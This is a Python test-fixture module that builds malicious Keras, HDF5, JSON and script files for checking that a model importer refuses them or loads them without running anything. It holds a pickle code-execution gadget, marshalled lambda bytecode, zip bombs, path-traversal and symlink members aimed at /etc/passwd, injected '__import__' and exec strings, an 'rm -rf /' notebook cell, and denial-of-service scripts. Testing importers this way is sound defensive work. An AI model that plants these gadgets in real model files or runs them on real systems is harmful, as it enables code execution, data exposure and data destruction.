"""Model files and scripts as they should not be: those that are refused, and those that come in and do no harm.

Each is the bytes of a file by its name; what runs any of them leaves a file in the folder ``caught``.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from functools import cache
from pathlib import Path
from typing import Any

from studio.importing.plain import MAX_BYTES


class _Attack:
    """Unpickled, it leaves a file."""

    def __init__(self, target: Path) -> None:
        self._target = target

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._target,)


def _code_of(target: Path) -> str:
    """Lambda's function as Keras keeps it: marshalled bytecode."""
    made = compile(f"lambda x: open({str(target)!r}, 'w') and x", "a", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(made)).decode()


def layer(kind: str, name: str, sources: list[str], **config: Any) -> dict[str, Any]:
    """A layer of a functional config, called once on the first output of each source."""
    tensors = [{"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32",
                "keras_history": [source, 0, 0]}} for source in sources]  # fmt: skip
    calls = [{"args": tensors, "kwargs": {}}] if sources else []
    return {"module": "keras.layers", "class_name": kind, "name": name, "registered_name": None,
            "config": {"name": name, **config}, "inbound_nodes": calls}  # fmt: skip


def functional(*layers: dict[str, Any], inputs: tuple[str, ...] = ("a",), outputs: tuple[str, ...] = ("d",)) -> Any:
    """The config of a model."""
    return {"module": "keras", "class_name": "Functional", "registered_name": "Functional", "config": {
        "name": "net", "trainable": True, "layers": list(layers),
        "input_layers": [[name, 0, 0] for name in inputs], "output_layers": [[name, 0, 0] for name in outputs],
    }}  # fmt: skip


BEGIN = layer("InputLayer", "a", [], batch_shape=[None, 4], dtype="float32", sparse=False)
ODD, LONG = "\u202e\x00<img src=file:///dev/zero>\r\n", "d" * 1_000_000
DENSE = layer("Dense", "d", ["a"], units=3, activation="relu")


def zipped(members: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with these files in it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return file.getvalue()


def _keras(config: Any) -> bytes:
    return zipped({"metadata.json": '{"keras_version": "3.0.0"}', "config.json": json.dumps(config)})


def _changed(old: str, new: str) -> bytes:
    text = json.dumps(functional(BEGIN, DENSE))
    assert old in text
    return text.replace(old, new).encode()


def _tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../evil"), io.BytesIO())
    return file.getvalue()


def _link() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        member = zipfile.ZipInfo("config.json")
        member.external_attr = 0o120777 << 16
        archive.writestr(member, "/etc/passwd")
    return file.getvalue()


@cache
def _bomb() -> bytes:
    return zipped({"config.json": b" " * (MAX_BYTES + 10)})


def refused_models(caught: Path) -> dict[str, bytes]:
    """Files that hold no model, or one that nobody should open."""
    attack = pickle.dumps(_Attack(caught / "pickle"))
    whole = _keras(functional(BEGIN, DENSE))
    deep = b'{"class_name": "Functional", "config": ' + b'{"config": ' * 5_000 + b"1" + b"}" * 5_001
    return {
        "empty.keras": b"", "empty.h5": b"", "empty.json": b"", "text.keras": b"hello", "text.h5": b"hello",
        "photo.keras": b"\x89PNG\r\n\x1a\n" + bytes(100), "half.keras": whole[: len(whole) // 2],
        "pickle.keras": attack, "pickle.h5": attack, "pickle.json": attack,
        "pickle_inside.keras": zipped({"data.pkl": attack, "config.json": attack}),
        "bomb.keras": _bomb(),
        "lying_bomb.keras": _bomb().replace(struct.pack("<L", MAX_BYTES + 10), struct.pack("<L", 1_000)),
        "many.keras": zipped({f"{number:02000}": b"" for number in range(2_500)}, zipfile.ZIP_STORED),
        "only_outside.keras": zipped({"../config.json": json.dumps(functional(BEGIN, DENSE))}),
        "link.keras": _link(), "tar.keras": _tar(), "weights_only.keras": zipped({"model.weights.h5": b"x"}),
        "lzma.keras": zipped({"config.json": "{}"}, zipfile.ZIP_LZMA),
        "half_h5.h5": b"\x89HDF\r\n\x1a\n" + bytes(range(256)) * 8,
        "deep.json": deep, "deep.keras": zipped({"config.json": deep}), "brackets.json": b"[" * 1_000_000,
        "digits.json": b"9" * 1_000_000, "twice.json": b'{"class_name": "Functional", "class_name": "os"}',
        "bytes.json": bytes(range(256)), "utf16.json": json.dumps(functional(BEGIN, DENSE)).encode("utf-16"),
        "list.json": b"[1, 2]", "other.json": b'{"name": "package", "version": "1.0.0"}',
        "large.json": b" " * (MAX_BYTES + 1),
        "many_classes.json": b'{"class_name": "Sequential", "config": {"layers": ['
        + b'{"class_name": "Dense"}, ' * 300_000 + b"1]}}",
    }  # fmt: skip


def odd_models(caught: Path) -> dict[str, bytes]:
    """Files whose model comes in, or is refused with a sentence; whatever is hostile in them does nothing."""
    target = caught / "config"
    attack = f"__import__('pathlib').Path({str(target)!r}).touch()"
    function = {"class_name": "__lambda__", "config": {"code": _code_of(target), "defaults": None, "closure": None}}
    configs: dict[str, Any] = {
        "lambda.keras": functional(BEGIN, layer("Lambda", "d", ["a"], function=function, arguments={})),
        "old_lambda.json": functional(BEGIN, layer("Lambda", "d", ["a"], function=[_code_of(target), None, None],
                                                   function_type="lambda")),
        "eval.json": functional(BEGIN, layer("Dense", attack, ["a"], units=attack), outputs=(attack,)),
        "module.keras": functional(BEGIN, {**layer("system", "d", ["a"], command=attack), "module": "os"}),
        "registered.keras": functional(BEGIN, {**layer("Evil", "d", ["a"]), "registered_name": "builtins>exec"}),
        "passwd.keras": functional(BEGIN, layer("TextVectorization", "d", ["a"], vocabulary="/etc/passwd")),
        "saved_model.keras": functional(BEGIN, layer("TFSMLayer", "d", ["a"], filepath=str(caught))),
        "huge_layer.keras": functional(BEGIN, layer("Dense", "d", ["a"], units=10**12)),
        "huge_shape.json": functional(layer("InputLayer", "a", [], batch_shape=[None, 2**63]), DENSE),
        "huge_number.json": functional(BEGIN, layer("Dense", "d", ["a"], units=10**400)),
        "circle.json": functional(BEGIN, layer("Dense", "d", ["e"], units=1), layer("Dense", "e", ["d"], units=1)),
        "itself.json": functional(BEGIN, layer("Dense", "d", ["d"], units=1)),
        "dangling.json": functional(BEGIN, layer("Dense", "d", ["nobody"], units=1)),
        "twins.json": functional(BEGIN, DENSE, DENSE),
        "no_end.json": functional(BEGIN, DENSE, outputs=("nobody",)),
        "long_name.json": functional(BEGIN, layer("Dense", LONG, ["a"], units=1), outputs=(LONG,)),
        "odd_names.json": functional(BEGIN, layer("Dense", ODD, ["a"], units=1), outputs=(ODD,)),
        "many_layers.json": functional(BEGIN, *[layer("Dense", f"l{at}", [f"l{at - 1}" if at else "a"], units=1)
                                                for at in range(20_001)], outputs=("l20000",)),
    }  # fmt: skip
    nested: Any = functional(BEGIN, DENSE)
    for _ in range(12):
        inner = {**nested, "name": "d", "inbound_nodes": DENSE["inbound_nodes"]}
        inner["config"] = {**inner["config"], "name": "d"}
        nested = functional(BEGIN, inner)
    configs["nested.json"] = nested
    made = {
        name: _keras(config) if name.endswith("keras") else json.dumps(config).encode()
        for name, config in configs.items()
    }
    far = json.dumps(functional(BEGIN, DENSE)).replace('["a", 0, 0]', '["a", 1000000000, 1000000000]')
    outside = {"../evil": "x", "/tmp/layer_studio_evil": "x", "config.json": json.dumps(functional(BEGIN, DENSE)),
               "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\xff" * 5_000}  # fmt: skip
    return made | {
        "far_index.json": far.encode(), "nan.json": _changed('"units": 3', '"units": NaN'),
        "outside.keras": zipped(outside), "text_units.json": _changed('"units": 3', '"units": "3; import os"'),
    }  # fmt: skip


_LOOP = (
    "c-rlh%}N6?5XZB%hed3u=s`V|oT~@x$(v|vg@Q#q2u0R(o3@K-w(Mqw(ihM-@b1M&5PSh2!#B|+o7L{N9{fNA=XV+MpUKQ540F>s"
    "s23JD7LmfXQ681hG%p6UmN^?PjJ1rtHugT3=y~lk*JbuNe|aH3KN$V=q*j~GpRMx^p3&dn5dmMOQQK=NduGnIu}`^lTr!8PAF8`-"
    "<~2LlOQ>P$70{~eX6Sb*b6lVIyuQ-cElb}lz4c_L`m0#)kFZktiaOsV4M^x*(IE7Ep3b*2FQ2q`NxmG63-JHggfI9!hx^A(3z<cg"
    "-A|GUmYXeN6z`U?-buJp#x5ga=x{RBay{a%kXwo{<qK%v3k3~m_k)0VM@oHylK@VI@`!+VoOE<C5kyo<jEv<9l;`$LBU{Ed)6Wqf"
    "MWU&k%9p5QeserxY<^SvLWc-<;DiG*Qd&EX-Z__^t{7_#_n1#abz4SH@80AetC|14EyBzJ00000000000Kd;Gc8i)T"
)
"""An HDF5 file with one changed byte on which h5py 3 goes on for ever, packed."""

H5_KINDS = {
    "weights.h5": "file.attrs['layer_names'] = ['a']",
    "claim.h5": "file.create_dataset('w', (10**9, 10**9), chunks=(1000, 1000), dtype='f4')",
    "claimed_weights.h5": "file.attrs['model_config'] = CONFIG\n"
    "group = file.create_group('model_weights').create_group('d')\n"
    "group.attrs['weight_names'] = [b'd/kernel']\n"
    "group.create_dataset('d/kernel', (10**9, 10**9), chunks=(1000, 1000), dtype='f4')",
    "loop.h5": "file.attrs['model_config'] = CONFIG\nfile['model_weights'] = h5py.SoftLink('/model_weights')",
    "outside.h5": "file.attrs['model_config'] = CONFIG\nfile['model_weights'] = h5py.ExternalLink('/etc/passwd', '/')",
    "numbers.h5": "file.attrs['model_config'] = list(range(1000))",
    "bytes.h5": "import numpy\nfile.attrs['model_config'] = numpy.void(bytes(range(256)))",
    "nothing.h5": "file.attrs['model_config'] = ''",
    "lambda.h5": "file.attrs['model_config'] = LAMBDA",
}
"""HDF5 files, by what makes them; there is one more, ``endless.h5``."""
H5_COME_IN = ("claimed_weights.h5", "loop.h5", "outside.h5", "lambda.h5")


def write_h5(folder: Path, caught: Path) -> None:
    """Write these files, in a process of its own: the window has no h5py, and neither has a test without Keras."""
    code = ["import sys, h5py"]
    config = json.dumps(functional(BEGIN, DENSE))
    function = [_code_of(caught / "h5"), None, None]
    lambdas = json.dumps(functional(BEGIN, layer("Lambda", "d", ["a"], function=function, function_type="lambda")))
    for name, made in H5_KINDS.items():
        body = made.replace("CONFIG", repr(config)).replace("LAMBDA", repr(lambdas)).replace("\n", "\n    ")
        code.append(f"with h5py.File({str(folder / name)!r}, 'w') as file:\n    {body}")
    subprocess.run([sys.executable, "-c", "\n".join(code)], check=True)
    (folder / "endless.h5").write_bytes(zlib.decompress(base64.b85decode(_LOOP)))


HEAD = "import keras\nfrom keras import layers\n"
MODEL = "x = keras.Input((4,))\nmodel = keras.Model(x, layers.Dense(2)(x))\n"


def scripts(caught: Path) -> dict[str, str | bytes]:
    """Scripts that no reading brings in: no Python, no network, or one that only running them tells."""
    touch = f"__import__('pathlib').Path({str(caught / 'script')!r}).touch()"
    pages = {
        "magic.ipynb": {"cells": [{"cell_type": "code", "source": ["!rm -rf /\n", "%run evil.py\n"]}]},
        "no_code.ipynb": {"cells": [{"cell_type": "markdown"}]},
        "other.ipynb": {},
    }
    bodies = {
        "syntax.py": "model = keras.Sequential([layers.Dense(1)\nprint(1)\n",
        "indent.py": "def f():\nreturn 3\n",
        "tabs.py": "if True:\n\tx = 1\n        y = 2\n",
        "python2.py": "print 'hello'\n",
        "merge.py": "<<<<<<< HEAD\nx = 1\n=======\nx = 2\n>>>>>>> b\n",
        "subclass.py": "class Net(keras.Model):\n    def call(self, x):\n        return x * 2\nnet = Net()\n",
        "effects.py": f"{touch}\nmodel = make()\n",
        "exec.py": f"exec({touch!r})\neval({touch!r})\nmodel = globals()['make']()\n",
        "decorated.py": f"@(lambda f: {touch})\ndef make():\n    return 3\nmodel = make()\n",
        "default.py": f"def make(x={touch}):\n    return keras.Sequential([x])\nmodel = make()\n",
        "network.py": "import urllib.request\nmodel = eval(urllib.request.urlopen('http://x.invalid').read())\n",
        "recursion.py": "def f(n):\n    return f(n + 1)\nmodel = f(0)\n",
    }
    return {
        "empty.py": "",
        "comment.py": "# nothing here\n",
        "no_model.py": "print('hello')\n",
        "nul.py": HEAD.encode() + b"\x00\n",
        "binary.py": bytes(range(256)) * 100,
        "latin.py": b"x = '\xe9\xff'\n" * 3,
        "utf16.py": (HEAD + MODEL).encode("utf-16"),
        "undefined.py": b"# coding: undefined\n" + (HEAD + MODEL).encode(),
        "punycode.py": b"# coding: punycode\n" + b"a" * 400_000 + b"-" + b"z9" * 200_000,
        "pickle.py": pickle.dumps(_Attack(caught / "pickle.py")),
        "brackets.py": "x = " + "(" * 5_000 + ")" * 5_000,
        "minus.py": "x = " + "-" * 100_000 + "1",
        "plus.py": "x = " + "1 + " * 50_000 + "1",
        "long.py": "x = 1\n" * 400_000,
        "many_lines.py": HEAD + "x = 1\n" * 60_000 + MODEL,
        "broken.ipynb": '{"cells": [',
        **{name: json.dumps(page) for name, page in pages.items()},
        **{name: HEAD + body for name, body in bodies.items()},
    }


def _nested_loops() -> str:
    loops = "".join(f"{'  ' * at}for i{at} in range(100):\n" for at in range(10))
    return f"{loops}{' ' * 20}x = 1\n"


LARGE = {
    "power.py": "model = layers.Dense(9 ** 9 ** 9 ** 9)\n",
    "pow.py": "s = pow(3, 10 ** 12)\n",
    "shift.py": "n = 1 << (1 << 60)\nm = n + 1\n",
    "times.py": "n = 'a' * 10 ** 12\nm = [0] * 10 ** 12\nk = (1, 2) * 10 ** 11\n",
    "squares.py": "n = 10 ** 400\n" + "n = n * n\n" * 60 + "x = layers.Dense(n)\n",
    "text.py": "s = 'ab'\n" + "s = s + s\n" * 60,
    "field.py": "s = 'ab'\n" + "s = f'{s}{s}'\n" * 60,
    "padded.py": "s = f'{1:>1000000000000}'\n",
    "percent.py": "s = '%1000000000000d' % 1\n",
    "joined.py": "s = ['a' * 10000] * 10000\n" + "s = [''.join(s)] * 10000\n" * 9,
    "replaced.py": "s = 'a' * 9000\n" + "s = s.replace('a', s)\n" * 9,
    "unpacked.py": "s = [0]\n" + "s = [*s, *s]\n" * 60,
    "extended.py": "s = [0]\n" + "s.extend(s)\n" * 60,
    "added.py": "s = [0]\n" + "s += s\n" * 60,
    "pairs.py": "t = (1, 2)\n" + "t = (t, t)\n" * 60 + "x = layers.Reshape(t)\nprint(f'{t}')\nd = {t: 1}\n",
    "pushed.py": "t = [1]\n"
    "for i in range(60):\n    s = []\n    s.append(t)\n    s.append(t)\n    t = s\nu = t == [1]\n",
    "turned.py": "s = [[] for i in range(60)]\nfor i in range(59):\n"
    "    s[i].append(s[i + 1])\n    s[i].append(s[i + 1])\n"
    "x = layers.Reshape(s[0])\nprint(f'{s[0]}')\n",
    "in_itself.py": "a = [1]\na.append(a)\nb = a == a\nx = layers.Reshape(a)\n",
    "dictionary.py": "d = {}\nd['d'] = d\nx = layers.Dense(**d)\n",
    "listed.py": "s = list(range(10 ** 12))\n",
    "summed.py": "s = sum(range(10 ** 12))\n",
    "digits.py": "s = int('9' * 9000) ** 9000\n",
    "doubled.py": "x = y = keras.Input((4,))\ndef f0(x):\n    return layers.Dense(2)(x)\n"
    + "".join(f"def f{at}(x):\n    return f{at - 1}(f{at - 1}(x))\n" for at in range(1, 40))
    + "model = keras.Model(x, f39(x))\n",
    "range.py": "for n in range(10 ** 12):\n    x = layers.Dense(n)\n",
}
"""What becomes too large, each after ``HEAD``."""

ENDLESS = {
    "while.py": "n = 0\nwhile True:\n    n += 1\n",
    "nested_loops.py": _nested_loops(),
    "twice.py": "def f(n):\n    f(n - 1)\n    return f(n - 1)\nmodel = f(100)\n",
    "triples.py": "s = [i * j * k for i in range(10**4) for j in range(10**4) for k in range(10**4)]\n",
    "layers.py": "x = keras.Input((4,))\nfor i in range(150):\n    for j in range(150):\n"
    "        x = layers.Dense(1)(x)\nmodel = keras.Model(x, x)\n",
}
"""What goes on for ever, and is given up after some seconds, each after ``HEAD``."""


def all_refused(caught: Path) -> dict[str, str | bytes]:
    """Everything that never comes in, but for HDF5."""
    large = {name: HEAD + body for name, body in LARGE.items()}
    endless = {name: HEAD + body for name, body in ENDLESS.items()}
    return {**refused_models(caught), **scripts(caught), **large, **endless}


@contextmanager
def none_run(folder: Path) -> Iterator[None]:
    """Write all of them; nobody may have run one when they were used."""
    caught = _write_all(folder)
    yield
    assert list(caught.iterdir()) == []
    assert not Path("/tmp/layer_studio_evil").exists()


def _write_all(folder: Path) -> Path:
    """Whoever runs one is seen in the folder that is given back, which is empty."""
    caught = folder / "caught"
    caught.mkdir()
    for name, text in {**all_refused(caught), **odd_models(caught)}.items():
        (folder / name).write_bytes(text.encode() if isinstance(text, str) else text)
    write_h5(folder, caught)
    return caught


REFUSED = (*all_refused(Path()), *[name for name in H5_KINDS if name not in H5_COME_IN], "endless.h5")
"""The names of all that are refused."""
COME_IN = (*odd_models(Path()), *H5_COME_IN)
"""The names of all that come in and do no harm; some of them are refused, too."""
